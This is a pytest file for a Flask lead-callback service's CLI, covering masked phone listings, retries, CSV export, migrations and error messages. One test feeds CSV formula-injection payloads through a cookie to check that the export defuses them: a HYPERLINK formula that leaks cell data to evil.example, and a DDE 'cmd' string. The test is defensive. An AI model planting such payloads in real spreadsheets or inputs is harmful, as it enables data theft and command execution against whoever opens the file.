from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote

import pytest
from click.testing import CliRunner
from flask import Flask

from service.cli import main
from tests.conftest import services
from tests.servers import free_port


@pytest.fixture
def app_with_leads(make_app: Callable[..., Flask]) -> Flask:
    app = make_app(dedupe_window=0)
    client = app.test_client()
    client.set_cookie("rngst2", "%7B%22utmz%22%3A%7B%22utm_source%22%3A%22google%22%7D%7D")
    client.post("/api/v1/callbacks", json={"phone": "0671112233", "page_url": "https://s.ex/a"})
    client.post("/api/v1/callbacks", json={"phone": "0671112234"})
    services(app).dispatcher.run_once()  # dry-run places the oldest
    return app


def _run(app: Flask, *args: str) -> str:
    url = services(app).settings.database_url
    result = CliRunner().invoke(main, list(args), env={"CALLGATE_DATABASE_URL": url})
    assert result.exit_code == 0, result.output
    return result.output


def test_leads_list_masks_numbers(app_with_leads: Flask) -> None:
    output = _run(app_with_leads, "leads", "list")
    assert "+38067*****33" in output and "+38067*****34" in output
    assert "380671112233" not in output
    assert len(_run(app_with_leads, "leads", "list", "--status", "placed").splitlines()) == 1


def test_leads_show_and_retry(app_with_leads: Flask) -> None:
    store = services(app_with_leads).store
    placed = store.search(status="placed")[0]
    output = _run(app_with_leads, "leads", "show", placed.id)
    assert "status: placed" in output and "attempt" in output and "placed http=None" in output
    assert "place_call done" in output  # its task
    # A confirmed placement called the visitor: a retry would call them twice.
    url = services(app_with_leads).settings.database_url
    refused = CliRunner().invoke(
        main, ["leads", "retry", placed.id], env={"CALLGATE_DATABASE_URL": url}
    )
    assert refused.exit_code == 1 and "only a failed lead" in refused.output
    lead = store.get(placed.id)
    assert lead is not None and lead.status == "placed"


def test_leads_export_csv(app_with_leads: Flask) -> None:
    output = _run(app_with_leads, "leads", "export", "--since", "2000-01-01")
    rows = list(csv.DictReader(io.StringIO(output)))
    assert [r["phone"] for r in rows] == ["'+38067*****33", "'+38067*****34"]  # as text
    assert rows[0]["utm_source"] == "google" and rows[0]["page_url"] == "https://s.ex/a"
    assert rows[0]["status"] == "placed" and rows[1]["status"] == "queued"


def test_leads_export_never_hands_a_spreadsheet_a_formula(make_app: Callable[..., Flask]) -> None:
    """Visitors write the UTM fields (here through the rngst2 cookie)."""
    app = make_app()
    client = app.test_client()
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    cookie = {"utmz": {"utm_source": formula, "utm_campaign": "+cmd|' /C calc'!A0"}}
    client.set_cookie("rngst2", quote(json.dumps(cookie)))
    assert client.post("/api/v1/callbacks", json={"phone": "0671112233"}).status_code == 202
    output = _run(app, "leads", "export", "--since", "2000-01-01")
    rows = list(csv.DictReader(io.StringIO(output)))
    assert rows[0]["utm_source"] == "'" + formula
    assert rows[0]["utm_campaign"] == "'+cmd|' /C calc'!A0"
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_db_upgrade_is_idempotent(app_with_leads: Flask) -> None:
    assert "up to date" in _run(app_with_leads, "db", "upgrade")


def test_unknown_lead(app_with_leads: Flask) -> None:
    url = services(app_with_leads).settings.database_url
    result = CliRunner().invoke(main, ["leads", "show", "nope"], env={"CALLGATE_DATABASE_URL": url})
    assert result.exit_code == 1 and "no lead nope" in result.output


def test_lead_ids_never_look_like_options() -> None:
    from service.leads.model import new_lead_id

    ids = [new_lead_id() for _ in range(5000)]
    assert not any(lead_id.startswith("-") for lead_id in ids)
    assert all(len(lead_id) == 22 for lead_id in ids)


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["leads", "list", "--status", "bogus"], "'bogus' is not one of"),
        (["leads", "list", "--limit", "-1"], "-1 is not in the range x>=1"),
        (["leads", "release", "nope"], "no lead nope"),
    ],
)
def test_operators_hear_what_is_wrong_with_their_command(
    app_with_leads: Flask, args: list[str], words: str
) -> None:
    url = services(app_with_leads).settings.database_url
    result = CliRunner().invoke(main, args, env={"CALLGATE_DATABASE_URL": url})
    assert result.exit_code in (1, 2) and words in result.output, result.output


def test_releasing_a_lead_that_is_not_held_says_so(app_with_leads: Flask) -> None:
    [queued] = services(app_with_leads).store.search(status="queued")
    url = services(app_with_leads).settings.database_url
    result = CliRunner().invoke(
        main, ["leads", "release", queued.id], env={"CALLGATE_DATABASE_URL": url}
    )
    assert result.exit_code == 1 and "is queued: only a held lead is released" in result.output


def test_a_database_nobody_migrated_names_the_command_that_fixes_it(tmp_path: Path) -> None:
    env = {"CALLGATE_DATABASE_URL": f"sqlite:///{tmp_path}/fresh.db"}
    for args in (["leads", "list"], ["leads", "release", "--all"], ["webhooks", "list"]):
        result = CliRunner().invoke(main, args, env=env)
        assert result.exit_code == 1, result.output
        assert "the database schema is at no revision (empty)" in result.output
        assert "run `callgate db upgrade`" in result.output
    assert CliRunner().invoke(main, ["db", "upgrade"], env=env).exit_code == 0
    assert CliRunner().invoke(main, ["leads", "list"], env=env).exit_code == 0


@pytest.mark.parametrize(
    "args",
    [
        ["leads", "purge", "--older-than", "999999999d"],
        ["leads", "purge", "--older-than", "9" * 400 + "d"],
        ["block", "add", "+380671112233", "--ttl", "999999999d"],
    ],
)
def test_a_duration_past_any_date_is_refused_by_name(
    app_with_leads: Flask, args: list[str]
) -> None:
    url = services(app_with_leads).settings.database_url
    result = CliRunner().invoke(main, args, env={"CALLGATE_DATABASE_URL": url})
    assert result.exit_code == 2 and "longer than 36525d" in result.output, result.output


def test_an_unreachable_database_is_one_line_not_a_traceback() -> None:
    url = f"postgresql+psycopg://callgate@127.0.0.1:{free_port()}/callgate"  # nobody listens
    for args in (["leads", "list"], ["block", "add", "+380671112233"], ["db", "upgrade"]):
        result = CliRunner().invoke(main, args, env={"CALLGATE_DATABASE_URL": url})
        assert result.exit_code == 1, result.output
        [line] = result.output.splitlines()
        assert line.startswith("Error: database error: connection failed")
        assert "Traceback" not in result.output and "SELECT" not in result.output
